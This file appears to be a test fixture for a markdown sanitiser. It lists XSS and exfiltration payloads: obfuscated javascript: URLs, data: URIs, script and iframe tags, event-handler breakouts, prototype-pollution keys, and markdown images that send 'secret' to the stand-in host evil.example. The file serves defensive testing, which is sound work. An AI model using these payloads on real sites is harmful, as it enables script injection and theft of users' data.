// Texts that try to run a script or to send data to another server. `alert(1)` marks what must not run, and
// `evil.example` what must not be reached.

const SCRIPTS = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\tjavascript:alert(1)', '\u0001javascript:alert(1)',
  'java\tscript:alert(1)', 'java&#9;script:alert(1)', 'java&#10;script:alert(1)', 'java&#x0A;script:alert(1)', '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)', 'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript\\:alert(1)', 'javascript:%61lert(1)',
  'javascript://evil.example/%0aalert(1)', 'vbscript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>', 'blob:https://evil.example/1', 'file:///etc/passwd', 'about:blank', 'view-source:https://evil.example',
  'feed:javascript:alert(1)', 'jar:javascript:alert(1)', 'intent://evil.example#Intent;end', 'filesystem:https://evil.example/a', 'ws://evil.example', '\u2028javascript:alert(1)',
];
const FOREIGN = [
  'https://evil.example/?q=secret', 'http://evil.example/a.png', '//evil.example/a.png', '/\\evil.example/a.png', '\\\\evil.example/a.png', '\\/evil.example/a.png',
  'https:evil.example/a.png', 'https:/\\evil.example/a.png', 'HTTPS://EVIL.EXAMPLE/a.png', 'https://localhost@evil.example/a.png', 'https://evil.example:443/a.png',
  'ht\ttps://evil.example/a.png', 'https&colon;//evil.example/a.png', '&#47;&#47;evil.example/a.png', '/%09/evil.example/a.png', '/&#9;/evil.example/a.png', '\t//evil.example/a.png',
  'ftp://evil.example/a.png', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/a.png"/></svg>', 'https://trusted.example.evil.example/a.png',
  'https://evil.example/trusted.example', 'https://trusted.example@evil.example/a.png', 'http://trusted.example/a.png', 'https://trusted.example:8443/a.png',
];
const MARKUP = [
  '<script>alert(1)</script>', '<script src="https://evil.example/a.js"></script>', '<img src=x onerror=alert(1)>', '<img src="https://evil.example/a.png">', '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>', '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example/a.swf">', '<link rel=stylesheet href="https://evil.example/a.css">', '<link rel=prefetch href="https://evil.example">', '<style>@import "https://evil.example/a.css";</style>',
  '<style>body{background:url(https://evil.example/a.png)}</style>', '<div style="background:url(https://evil.example/a.png)">', '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=a autofocus onfocus=alert(1)></form>', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>', '<video src="https://evil.example/a.mp4" autoplay>', '<audio src=x onerror=alert(1)>',
  '<math><mtext></mtext><script>alert(1)</script></math>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<a href="javascript:alert(1)">a</a>', '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '<marquee onstart=alert(1)>', '<input type=image src="https://evil.example/a.png">',
  '<br onclick=alert(1)>', '<br/onload=alert(1)>', '<br \n>', '<BR><script>alert(1)</script>', '<img/src="x"/onerror=alert(1)>', '<x onclick=alert(1) contenteditable autofocus onfocus=alert(1)>', '<portal src="https://evil.example">',
];
const BREAKOUTS = [
  '[a](https://a.example "\\" onmouseover=alert(1) x=\\"")', '[a](<https://a.example" onclick="alert(1)>)', '![" onerror="alert(1)](/x.png)', '![a](/x.png "\\" onerror=\\"alert(1)")',
  '```"><script>alert(1)</script>\ncode\n```', '```js" onclick="alert(1)\ncode\n```', '```html\n<script>alert(1)</script><img src="https://evil.example/a.png">\n```', '`<script>alert(1)</script>`',
  '$<script>alert(1)</script>$', '$$\n<img src=x onerror=alert(1)>\n$$', '| a |\n|---|\n| <img src=x onerror=alert(1)> |', '| ![a](https://evil.example/a.png) |\n|---|\n| [b](javascript:alert(1)) |',
  '# <svg onload=alert(1)>', '- [ ] <img src=x onerror=alert(1)>', '> <iframe src="https://evil.example"></iframe>', '[a]: javascript:alert(1)\n\n[a]', '![a]\n\n[a]: https://evil.example/a.png',
  '[![a](https://evil.example/a.png)](javascript:alert(1))', '[a\n](javascript:alert(1)\n)', '<javascript:alert(1)>', '<data:text/html,alert(1)>', 'https://evil.example/"onmouseover=alert(1)', 'www.evil.example/<script>alert(1)</script>',
  'a@evil.example?subject=<script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;img src=x onerror=alert(1)&#62;', '\\<script>alert(1)\\</script>', '**<img src=x onerror=alert(1)>**', '[<img src=x onerror=alert(1)>](/a)',
  '[constructor]', '[__proto__][toString]', '&constructor; &__proto__; &toStringuml;', '```constructor\na\n```', '```__proto__\na\n```', '1. <style>*{display:none}</style>',
];

export const payloads = [
  ...SCRIPTS.flatMap((address) => [`[a](${address})`, `![a](<${address}>)`]),
  ...FOREIGN.flatMap((address) => [`![secret](${address})`, `![a][b]\n\n[b]: <${address}>`]),
  ...MARKUP,
  ...BREAKOUTS,
];
